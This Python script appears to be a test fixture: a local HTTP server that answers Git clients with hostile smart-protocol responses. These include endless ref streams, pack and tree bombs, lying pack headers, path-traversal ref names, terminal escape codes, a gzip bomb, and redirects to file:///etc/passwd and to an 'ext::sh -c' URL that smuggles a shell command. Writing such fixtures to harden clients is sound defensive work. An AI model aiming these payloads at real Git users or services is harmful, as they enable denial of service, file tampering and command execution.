#!/usr/bin/env python3
"""A server whose every answer is an attack. Prints `http=URL` and `ready`; ends with its input.

The first part of the path chooses the attack: see CASES below, and what each says of itself. What
follows in the path does not matter, but for how Git's protocol ends it.
"""

import gzip
import hashlib
import itertools
import os
import struct
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ZERO = b"0" * 40
KINDS = {"commit": 1, "tree": 2, "blob": 3, "tag": 4}
ESCAPES = b"\x1b]0;owned\x07\x1b[2J\xc2\x9b31m"
AGENT = b"agent=hostile"


# Objects and packs


class Thing:
    """An object: its id, and its bytes as a pack holds them."""

    def __init__(self, kind, data):
        self.kind, self.data = kind, data
        name = b"%s %d\0" % (kind.encode(), len(data))
        self.id = hashlib.sha1(name + data).hexdigest().encode()
        self.packed = header(KINDS[kind], len(data)) + zlib.compress(data)


def header(kind, size):
    first, size = kind << 4 | size & 15, size >> 4
    out = b""
    while size:
        out += bytes([first | 0x80])
        first, size = size & 0x7F, size >> 7
    return out + bytes([first])


def varint(number):
    out = b""
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def pack(*entries, count=None):
    """A pack of things, or of the bytes of entries as they stand."""
    body = b"PACK" + struct.pack(">II", 2, len(entries) if count is None else count)
    body += b"".join(one if isinstance(one, bytes) else one.packed for one in entries)
    return body + hashlib.sha1(body).digest()


def blob(data):
    return Thing("blob", data)


def tree(*entries):
    """Of (mode, name, id), in the order given."""
    return Thing("tree", b"".join(b"%s %s\0%s" % (m, n, bytes.fromhex(i.decode())) for m, n, i in entries))


def commit(tree_id):
    who = b"A <a@example.com> 1700000000 +0000"
    return Thing("commit", b"tree %s\nauthor %s\ncommitter %s\n\nHostile\n" % (tree_id, who, who))


def tag(target, kind="commit"):
    text = b"object %s\ntype %s\ntag t\ntagger A <a@example.com> 1700000000 +0000\n\nT\n"
    return Thing("tag", text % (target, kind.encode()))


FILE = blob(b"A file\n")
TREE = tree((b"100644", b"file", FILE.id))
TIP = commit(TREE.id)
ABSENT = hashlib.sha1(b"absent").hexdigest().encode()


# Answers: what a case gives for the GET and for the POST is bytes, or bytes without end in pieces.


def packet(payload):
    return b"%04x" % (len(payload) + 4) + payload


def advertisement(refs, head=b"refs/heads/main", capabilities=b"side-band-64k ofs-delta"):
    """Version 0's, whole but for the last flush."""
    capabilities += b" " + AGENT + (b" symref=HEAD:" + head if head else b"")
    out = packet(b"# service=git-upload-pack\n") + b"0000"
    for number, (name, oid) in enumerate(refs):
        out += packet(oid + b" " + name + (b"\0" + capabilities if number == 0 else b"") + b"\n")
    return out


def refs_at(tip, *more, head=b"refs/heads/main"):
    refs = [(b"HEAD", tip.id), (b"refs/heads/main", tip.id), *more]
    return advertisement(refs, head) + b"0000"


def banded(data):
    return b"".join(packet(b"\x01" + data[at : at + 60000]) for at in range(0, len(data), 60000))


def with_pack(data):
    return packet(b"NAK\n") + banded(data) + b"0000"


def repository(tip, *things, refs=(), head=b"refs/heads/main", count=None):
    return refs_at(tip, *refs, head=head), with_pack(pack(*things, count=count))


class Endless:
    """What `pieces` gives, from its start for each who asks."""

    def __init__(self, pieces):
        self.pieces = pieces

    def __iter__(self):
        return self.pieces()


def forever(start, piece):
    """`start`, then `piece` over and over."""
    many = piece * max(1, (1 << 16) // len(piece))
    return Endless(lambda: itertools.chain([start], itertools.repeat(many)))


def version_2(*capabilities):
    return b"".join(map(packet, [b"version 2\n", AGENT + b"\n", *capabilities]))


VERSION_2 = version_2(b"ls-refs=unborn\n", b"fetch\n", b"object-format=sha1\n") + b"0000"


def numbered_refs():
    """Refs without end, each with a name of its own."""
    for start in itertools.count(0, 1000):
        yield b"".join(
            packet(TIP.id + b" refs/heads/%09d\n" % n) for n in range(start, start + 1000)
        )


def deltas(base, result):
    """An entry that rebuilds `result` from the entry before it: all of it inserted."""
    instructions = varint(len(base.data)) + varint(len(result.data))
    for at in range(0, len(result.data), 127):
        part = result.data[at : at + 127]
        instructions += bytes([len(part)]) + part
    return header(6, len(instructions)) + varint(len(base.packed)) + zlib.compress(instructions)


def nested(depth, name, inner):
    """Trees one in the other, the outermost last."""
    trees = [inner]
    for _ in range(depth):
        trees.append(tree((b"40000", name, trees[-1].id)))
    return trees


def lies_of_size():
    data = zlib.compress(b"0123456789")
    return {
        "size-huge": header(3, 1 << 38) + data,
        "size-short": header(3, 3) + data,
        "size-long": header(3, 11) + data,
        "size-tree-huge": header(2, 1 << 38) + data,
    }


def tags_on_tags(depth):
    tags = [tag(TIP.id)]
    for _ in range(depth - 1):
        tags.append(tag(tags[-1].id, "tag"))
    return tags


def deep_and_bad_link():
    """Files below a path almost as long as a path may be, and then a link that cannot be made."""
    trees = nested(15, b"d" * 255, TREE)
    target = blob(b"t" * 5000)
    top = tree((b"120000", b"a", target.id), (b"40000", b"d", trees[-1].id))
    return commit(top.id), target, FILE, top, *trees


def bomb():
    """Ten thousand million files in a few objects."""
    trees = [tree(*[(b"100644", b"f%d" % n, FILE.id) for n in range(10)])]
    for _ in range(9):
        trees.append(tree(*[(b"40000", b"d%d" % n, trees[-1].id) for n in range(10)]))
    return commit(trees[-1].id), FILE, *trees


def make_cases():
    lost = tree((b"100644", b"file", ABSENT))
    hidden = commit(lost.id)
    odd = commit(FILE.id)  # whose tree is a blob
    whole = (TIP, TREE, FILE)
    many = tags_on_tags(900)
    links = deep_and_bad_link()
    deep = nested(3000, b"d", TREE)
    deepest = commit(deep[-1].id)
    bombs = bomb()
    # Most of what a client takes of it, so that not all has to be packets with nothing in them.
    chatter = packet(b"\x02" + b"x" * 900 + b"\n") * 70000
    cases = {
        # Without end.
        "endless-refs": (
            Endless(lambda: itertools.chain([advertisement([(b"HEAD", TIP.id)])], numbered_refs())), b""),
        "endless-same-ref": (
            forever(advertisement([(b"HEAD", TIP.id)]), packet(TIP.id + b" refs/heads/a\n")), b""),
        "endless-bad-refs": (
            forever(advertisement([(b"HEAD", TIP.id)]), packet(TIP.id + b" refs/heads/a..b\n")), b""),
        "endless-shallow": (
            forever(advertisement([(b"HEAD", TIP.id)]), packet(b"shallow " + TIP.id + b"\n")), b""),
        "endless-capabilities": (forever(version_2(), packet(b"x=" + b"y" * 1000)), b""),
        "endless-listing": (VERSION_2, Endless(numbered_refs)),
        "endless-text": (refs_at(TIP), forever(packet(b"NAK\n"), packet(b"\x02" + b"x" * 900 + b"\n"))),
        "endless-empty-text": (refs_at(TIP), forever(packet(b"NAK\n") + chatter, packet(b"\x02"))),
        "endless-empty-data": (refs_at(TIP), forever(packet(b"NAK\n") + chatter, packet(b"\x01"))),
        "endless-acknowledgments": (refs_at(TIP), forever(b"", packet(b"NAK\n"))),
        "endless-zeros": (forever(b"", b"0000"), b""),
        "endless-after-pack": (refs_at(TIP), forever(with_pack(pack(*whole))[:-4], packet(b"\x01x"))),
        # Objects.
        "wanted-missing": repository(TIP, FILE),
        "other-ref-missing": repository(TIP, *whole, refs=[(b"refs/heads/other", ABSENT)]),
        "missing-behind-delta": repository(hidden, hidden, TREE, deltas(TREE, lost), FILE),
        "tree-is-a-blob": repository(odd, odd, FILE),
        "branch-at-blob": repository(FILE, FILE),
        "branch-at-tree": repository(TREE, TREE, FILE),
        "count-huge": repository(TIP, *whole, count=0xFFFFFFFF),
        "count-small": repository(TIP, *whole, count=2),
        "count-none": repository(TIP, count=0),
        "delta-on-itself": repository(TIP, *whole, header(6, 4) + b"\0" + zlib.compress(b"\1\1\1x")),
        "thin": repository(
            TIP, *whole, header(7, 4) + bytes.fromhex(ABSENT.decode()) + zlib.compress(b"\1\1\1x")),
        "deep-trees": repository(deepest, deepest, FILE, *deep),
        "deep-and-bad-link": repository(links[0], *links),
        "bomb": repository(bombs[0], *bombs),
        "tags-on-tags": repository(
            TIP, *whole, *many,
            refs=[(b"refs/tags/%05d" % n, many[-1 - n % 20].id) for n in range(20000)]),
        # Refs.
        "file-and-folder": repository(
            TIP, *whole, refs=[(b"refs/heads/a", TIP.id), (b"refs/heads/a/b", TIP.id)]),
        "same-twice": repository(
            TIP, *whole, refs=[(b"refs/heads/a", TIP.id), (b"refs/heads/a", TIP.id)]),
        "case": repository(
            TIP, *whole,
            refs=[(b"refs/heads/A", TIP.id), (b"refs/heads/a", TIP.id), (b"refs/heads/MAIN", TIP.id)]),
        "bad-names": repository(
            TIP, *whole,
            refs=[(n, TIP.id) for n in (
                b"../../escaped", b"/escaped", b"refs/heads/../../../escaped", b"refs/heads/.lock",
                b"refs/heads/escaped.lock", b"refs/tags/" + b"x" * 5000, b"refs/heads/" + ESCAPES,
                b"refs/heads/..", b"refs//escaped", b"config", b"objects/escaped")]),
        "head-outside": repository(TIP, *whole, head=b"refs/heads/../../config"),
        "head-absolute": repository(TIP, *whole, head=b"/etc/passwd"),
        "head-itself": repository(TIP, *whole, head=b"HEAD"),
        "head-config": repository(TIP, *whole, head=b"config"),
        "head-escapes": repository(TIP, *whole, head=b"refs/heads/" + ESCAPES),
        "head-quotes": repository(
            TIP, *whole, head=b'refs/heads/a"]x#;=', refs=[(b'refs/heads/a"]x#;=', TIP.id)]),
        "head-option": repository(
            TIP, *whole, head=b"refs/heads/--x", refs=[(b"refs/heads/--x", TIP.id)]),
        # HTTP.
        "gzip-bomb": ("gzip", b""),
        "drip": (("drip", refs_at(TIP)), b""),
        "redirect-file": (("redirect", "file:///etc/passwd"), b""),
        "redirect-ftp": (("redirect", "ftp://127.0.0.1/a"), b""),
        "redirect-ext": (("redirect", "ext::sh -c 'touch owned'"), b""),
        "redirect-lines": (("redirect", "http://127.0.0.1/%0d%0aa/info/refs"), b""),
        "redirect-endless-body": (("redirect", "/redirect-endless-body/a.git/info/refs"), b""),
        "unauthorized": ("401", b""),
    }
    for name, entry in lies_of_size().items():
        cases[name] = repository(TIP, *whole, entry)
    return cases


CASES = make_cases()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def start(self, status, kind, *headers):
        self.send_response(status)
        self.send_header("Content-Type", f"application/x-git-upload-pack-{kind}")
        self.send_header("Connection", "close")
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.close_connection = True

    def case(self):
        return CASES[self.path.split("/")[1]]

    def do_GET(self):
        answer = self.case()[0]
        if isinstance(answer, tuple) and answer[0] == "redirect":
            self.start(302, "advertisement", ("Location", answer[1]))
            return self.send(itertools.repeat(b"x" * 4096) if "endless" in answer[1] else b"")
        if answer == "401":
            self.start(401, "advertisement", ("WWW-Authenticate", 'Basic realm="a\x1b[2J"'))
            return self.send(ESCAPES)
        if answer == "gzip":
            self.start(200, "advertisement", ("Content-Encoding", "gzip"))
            piece = packet(TIP.id + b" refs/heads/a.." + b"b" * 1000 + b"\n")
            bomb = gzip.compress(advertisement([(b"HEAD", TIP.id)]) + piece * (1 << 18), 9)
            return self.send(bomb)
        self.start(200, "advertisement")
        if isinstance(answer, tuple):
            for byte in answer[1]:
                self.send(bytes([byte]))
                time.sleep(0.05)
            return None
        return self.send(answer)

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.start(200, "result")
        self.send(self.case()[1])

    def send(self, answer):
        try:
            for piece in [answer] if isinstance(answer, bytes) else answer:
                self.wfile.write(piece)
            self.wfile.flush()
        except OSError:
            self.close_connection = True


class Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, *_):
        pass


def main():
    server = Server(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(f"http=http://127.0.0.1:{server.server_port}\nready", flush=True)
    sys.stdin.read()
    os._exit(0)


main()
